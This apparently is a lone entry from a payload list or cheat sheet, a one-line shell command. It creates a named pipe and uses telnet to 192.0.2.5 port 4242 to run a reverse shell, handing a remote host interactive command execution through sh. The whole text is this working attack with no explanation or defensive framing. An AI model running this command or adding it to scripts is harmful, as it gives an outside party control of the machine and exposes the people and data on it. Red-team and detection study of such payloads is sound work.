TF=$(mktemp -u);mkfifo $TF && telnet 192.0.2.5 4242 0<$TF | sh 1>$TF
